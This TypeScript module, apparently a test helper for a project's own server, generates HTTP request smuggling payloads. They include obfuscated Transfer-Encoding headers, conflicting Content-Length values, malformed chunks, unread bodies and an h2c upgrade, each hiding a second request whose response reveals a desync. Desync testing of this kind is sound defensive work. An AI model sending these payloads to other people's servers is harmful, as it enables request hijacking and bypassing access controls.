/** A message that two parsers may split differently. What the shorter reading leaves is a request for `word`. */
export type Smuggled = { name: string; bytes: string }

const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`
const end = '0\r\n\r\n'

/** Ways to write Transfer-Encoding that some parsers overlook. */
const encodings: readonly string[] = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: cHuNkEd',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\u000bchunked',
  'Transfer-Encoding: \u000cchunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding\n: chunked',
  ' Transfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'X: x\r\n\tTransfer-Encoding: chunked',
  'Transfer-Encoding\u0000: chunked',
  'Transfer-Encoding: chunked\u0000',
  'Connection: Content-Length\r\nTransfer-Encoding: chunked',
]

/** Ways to write a zero length beside, or instead of, the real one. */
const lengths = (size: number): string[] => [
  `Content-Length: 0\r\nContent-Length: ${size}`,
  `Content-Length: ${size}\r\nContent-Length: 0`,
  `Content-Length: ${size}\r\nContent-Length: ${size}`,
  `Content-Length: 0, ${size}`,
  `Content-Length: ${size}, ${size}`,
  ...['+0', '-0', '0x0', '0 0', '0;', '0\u000b', '1e0', '', 'zero', '٠', '18446744073709551616'].map((length) => `Content-Length: ${length}`),
  `Content-Length : 0\r\nContent-Length: ${size}`,
  ` Content-Length: 0\r\nContent-Length: ${size}`,
  `Content-Length\u0000: 0\r\nContent-Length: ${size}`,
  `Content-Length:\r\n 0`,
]

/** Invalid chunks, each before the hidden request. */
const brokenChunks: readonly string[] = [
  '0\n\n',
  '0\r\r',
  '0 \r\n\r\n',
  '0x0\r\n\r\n',
  '-0\r\n\r\n',
  '+0\r\n\r\n',
  '0;\n\r\n',
  '2;\nxx\r\n0\r\n\r\n',
  '2;x\rx\r\nab\r\n0\r\n\r\n',
  '2\r\nabc\r\n0\r\n\r\n',
  '2\nab\n0\n\n',
  '10000000000000000\r\n',
  'fffffffffffffffff\r\n',
  '00000000000000000000000000000000\r\n\r\n',
  '\r\n0\r\n\r\n',
  '0\r\nContent-Length: 5\r\n\r\n',
  '0\r\nHost: kahu.localhost\r\n\r\n',
  '0\r\nX: y\n\n',
]

/** Calls that respond without reading a body. */
const unread = ['POST /healthz', 'GET /healthz', 'HEAD /healthz', 'OPTIONS /', 'DELETE /', 'POST /nothing', 'POST /docs', 'GET /combos/genders', 'PUT /files/x']

const post = 'POST /learner-app/support-case HTTP/1.1'

/** Every message for one host. The hidden request asks for a list called `word`; a response about it is a desync. */
export const smuggled = (host: string, word: string): Smuggled[] => {
  const hidden = `GET /combos/${word} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
  const quoted = (line: string) => JSON.stringify(line)
  const message = (first: string, headers: string, body: string) => `${first}\r\nHost: ${host}\r\nContent-Type: application/json\r\n${headers}\r\n\r\n${body}`
  const all = `${end}${hidden}`
  const chunked = `${chunk(hidden)}${end}`
  return [
    ...encodings.flatMap((line) => [
      { name: `${quoted(line)} within a length`, bytes: message(post, `Content-Length: ${all.length}\r\n${line}`, all) },
      { name: `${quoted(line)} before a length`, bytes: message(post, `${line}\r\nContent-Length: ${chunk(hidden).indexOf('\n') + 1}`, chunked) },
    ]),
    ...lengths(hidden.length).map((line) => ({ name: quoted(line), bytes: message(post, line, hidden) })),
    ...brokenChunks
      .filter((text) => !/^0+\r\n\r\n$/.test(text))
      .map((text) => ({
        name: `the chunk ${quoted(text)}`,
        bytes: message(post, `Transfer-Encoding: chunked\r\nContent-Length: ${text.length + hidden.length}`, text + hidden),
      })),
    ...unread.map((line) => ({ name: `${line} with a body`, bytes: message(`${line} HTTP/1.1`, `Content-Length: ${hidden.length}`, hidden) })),
    ...unread.map((line) => ({ name: `${line} with chunks`, bytes: message(`${line} HTTP/1.1`, 'Transfer-Encoding: chunked', chunked) })),
    { name: 'Expect', bytes: message(post, `Expect: 100-continue\r\nContent-Length: ${hidden.length}`, hidden) },
    { name: 'chunks in HTTP/1.0', bytes: message(post.replace('1.1', '1.0'), 'Connection: keep-alive\r\nTransfer-Encoding: chunked', all) },
    { name: 'a line feed in the target', bytes: message(`GET /healthz?\n${hidden}`, 'X: y', '') },
    {
      name: 'upgrade to h2c',
      bytes: message(
        'GET /healthz HTTP/1.1',
        `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: ${hidden.length}`,
        hidden,
      ),
    },
  ]
}
